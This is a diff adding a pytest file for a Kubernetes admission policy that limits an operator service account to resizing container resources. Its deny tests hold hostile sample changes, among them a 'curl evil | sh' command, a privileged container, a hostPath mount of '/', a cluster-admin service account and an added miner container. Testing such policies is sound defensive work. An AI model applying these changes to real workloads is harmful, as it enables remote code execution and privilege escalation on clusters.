@@ -1,0 +1,205 @@
+"""The operator's workload scope policy (config/admission), its CEL evaluated for real.
+
+No fake API server here runs admission; vap.py evaluates the policy's expressions, read from the YAML,
+with cel-expr-python against AdmissionReview-shaped UPDATE requests. The operator may change container
+resources and nothing that decides what runs with which privileges.
+"""
+
+from __future__ import annotations
+
+import copy
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from vap import AdmissionPolicy, Verdict
+
+ROOT = Path(__file__).resolve().parents[2]
+POLICY_FILE = ROOT / "config" / "admission" / "operator_workload_scope_policy.yaml"
+OPERATOR = "system:serviceaccount:krr-mcp-system:krr-mcp-operator"
+PLURALS = {
+    "Deployment": "deployments",
+    "StatefulSet": "statefulsets",
+    "DaemonSet": "daemonsets",
+    "CronJob": "cronjobs",
+}
+
+
+def _no_authorizer(*_: Any) -> bool:
+    raise AssertionError("this policy never asks the authorizer")
+
+
+@pytest.fixture(scope="module")
+def documents() -> list[dict[str, Any]]:
+    return [d for d in yaml.safe_load_all(POLICY_FILE.read_text()) if d]
+
+
+@pytest.fixture(scope="module")
+def policy(documents: list[dict[str, Any]]) -> AdmissionPolicy:
+    return AdmissionPolicy(
+        next(d for d in documents if d["kind"] == "ValidatingAdmissionPolicy"), _no_authorizer
+    )
+
+
+def workload(kind: str = "Deployment", namespace: str = "shop") -> dict[str, Any]:
+    pod_spec = {
+        "serviceAccountName": "web",
+        "containers": [
+            {
+                "name": "app",
+                "image": "registry.example/web:1.4",
+                "args": ["--port=8080"],
+                "env": [{"name": "MODE", "value": "prod"}],
+                "resources": {"requests": {"cpu": "500m", "memory": "512Mi"}, "limits": {"memory": "512Mi"}},
+                "readinessProbe": {"httpGet": {"path": "/ready", "port": 8080}},
+                "securityContext": {"allowPrivilegeEscalation": False},
+            },
+            {
+                "name": "sidecar",
+                "image": "registry.example/proxy:2",
+                "resources": {"requests": {"cpu": "50m"}},
+            },
+        ],
+        "initContainers": [{"name": "migrate", "image": "registry.example/web:1.4", "command": ["migrate"]}],
+        "volumes": [{"name": "cache", "emptyDir": {}}],
+    }
+    template = {"metadata": {"labels": {"app": "web"}}, "spec": pod_spec}
+    spec: dict[str, Any] = (
+        {"schedule": "0 * * * *", "jobTemplate": {"spec": {"template": template}}}
+        if kind == "CronJob"
+        else {"selector": {"matchLabels": {"app": "web"}}, "template": template}
+    )
+    return {
+        "apiVersion": "batch/v1" if kind == "CronJob" else "apps/v1",
+        "kind": kind,
+        "metadata": {"name": "web", "namespace": namespace},
+        "spec": spec,
+    }
+
+
+def pod_of(obj: dict[str, Any]) -> dict[str, Any]:
+    spec = obj["spec"]
+    return (spec["jobTemplate"]["spec"] if "jobTemplate" in spec else spec)["template"]["spec"]
+
+
+def update(
+    old: dict[str, Any], change: Callable[[dict[str, Any]], None], user: str = OPERATOR
+) -> dict[str, Any]:
+    new = copy.deepcopy(old)
+    change(pod_of(new))
+    kind = old["kind"]
+    group, version = ("batch", "v1") if kind == "CronJob" else ("apps", "v1")
+    return {
+        "uid": "b7a1",
+        "kind": {"group": group, "version": version, "kind": kind},
+        "resource": {"group": group, "version": version, "resource": PLURALS[kind]},
+        "subResource": "",
+        "name": "web",
+        "namespace": old["metadata"]["namespace"],
+        "operation": "UPDATE",
+        "userInfo": {"username": user, "groups": ["system:serviceaccounts", "system:authenticated"]},
+        "object": new,
+        "oldObject": old,
+        "dryRun": False,
+        "options": {},
+    }
+
+
+def resize(pod: dict[str, Any]) -> None:
+    app = pod["containers"][0]
+    app["resources"] = {"requests": {"cpu": "250m", "memory": "384Mi"}, "limits": {"memory": "384Mi"}}
+    pod["containers"][1]["resources"] = {}
+
+
+def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
+    """A change setting `path` (dots; numbers index lists) in the pod spec."""
+
+    def change(pod: dict[str, Any]) -> None:
+        node: Any = pod
+        keys = [int(k) if k.isdigit() else k for k in path.split(".")]
+        for key in keys[:-1]:
+            node = node[key]
+        node[keys[-1]] = value
+
+    return change
+
+
+def denied(verdict: Verdict, fragment: str) -> bool:
+    return verdict.matched and not verdict.allowed and any(fragment in m for m in verdict.messages)
+
+
+CONTAINER_ONLY = "may change container resources only"
+POD_LEVEL = "may not change the pod's identity"
+
+
+@pytest.mark.parametrize("kind", list(PLURALS))
+def test_the_operator_may_resize(policy: AdmissionPolicy, kind: str) -> None:
+    verdict = policy.admit(update(workload(kind), resize))
+    assert verdict.matched and verdict.allowed, verdict.messages
+
+
+@pytest.mark.parametrize("kind", list(PLURALS))
+def test_the_operator_may_not_swap_the_image(policy: AdmissionPolicy, kind: str) -> None:
+    assert denied(
+        policy.admit(update(workload(kind), _set("containers.0.image", "evil:latest"))), CONTAINER_ONLY
+    )
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        (_set("containers.0.command", ["sh", "-c", "curl evil | sh"]), CONTAINER_ONLY),
+        (_set("containers.0.args", ["--debug"]), CONTAINER_ONLY),
+        (_set("containers.0.env", [{"name": "MODE", "value": "debug"}]), CONTAINER_ONLY),
+        (_set("containers.1.envFrom", [{"secretRef": {"name": "db"}}]), CONTAINER_ONLY),
+        (_set("containers.0.securityContext", {"privileged": True}), CONTAINER_ONLY),
+        (_set("containers.0.readinessProbe", {"exec": {"command": ["sh"]}}), CONTAINER_ONLY),
+        (_set("containers.1.lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}), CONTAINER_ONLY),
+        (_set("containers.0.volumeMounts", [{"name": "host", "mountPath": "/host"}]), CONTAINER_ONLY),
+        (_set("containers.1.name", "renamed"), CONTAINER_ONLY),
+        (lambda pod: pod["containers"].append({"name": "miner", "image": "miner"}), CONTAINER_ONLY),
+        (lambda pod: pod["containers"].pop(), CONTAINER_ONLY),
+        (_set("serviceAccountName", "cluster-admin-sa"), POD_LEVEL),
+        (_set("automountServiceAccountToken", True), POD_LEVEL),
+        (_set("hostNetwork", True), POD_LEVEL),
+        (_set("hostPID", True), POD_LEVEL),
+        (_set("securityContext", {"runAsUser": 0}), POD_LEVEL),
+        (_set("volumes", [{"name": "host", "hostPath": {"path": "/"}}]), POD_LEVEL),
+        (_set("nodeName", "control-plane-1"), POD_LEVEL),
+        (_set("tolerations", [{"operator": "Exists"}]), POD_LEVEL),
+        (_set("initContainers.0.image", "evil:latest"), POD_LEVEL),
+        (
+            _set("initContainers.0.resources", {"requests": {"cpu": "1"}}),
+            POD_LEVEL,
+        ),  # never the operator's to change
+    ],
+)
+def test_the_operator_may_not_change_what_runs(policy: AdmissionPolicy, change: Any, message: str) -> None:
+    assert denied(policy.admit(update(workload(), change)), message)
+
+
+@pytest.mark.parametrize("namespace", ["kube-system", "kube-public", "kube-node-lease", "krr-mcp-system"])
+def test_the_operator_never_writes_in_protected_namespaces(policy: AdmissionPolicy, namespace: str) -> None:
+    verdict = policy.admit(update(workload(namespace=namespace), resize))
+    assert denied(verdict, f"the krr-mcp operator never changes workloads in namespace {namespace}")
+
+
+def test_other_users_are_not_matched(policy: AdmissionPolicy) -> None:
+    verdict = policy.admit(update(workload(), _set("containers.0.image", "web:1.5"), user="alice"))
+    assert not verdict.matched and verdict.allowed
+
+
+def test_status_and_scale_are_not_matched(policy: AdmissionPolicy) -> None:
+    request = update(workload(), _set("containers.0.image", "evil"))
+    for sub_resource in ("status", "scale"):
+        assert not policy.admit({**request, "subResource": sub_resource}).matched
+
+
+def test_binding(documents: list[dict[str, Any]]) -> None:
+    vap = next(d for d in documents if d["kind"] == "ValidatingAdmissionPolicy")
+    binding = next(d for d in documents if d["kind"] == "ValidatingAdmissionPolicyBinding")
+    assert vap["spec"]["failurePolicy"] == "Fail"
+    assert binding["spec"]["policyName"] == vap["metadata"]["name"]
+    assert "Deny" in binding["spec"]["validationActions"]
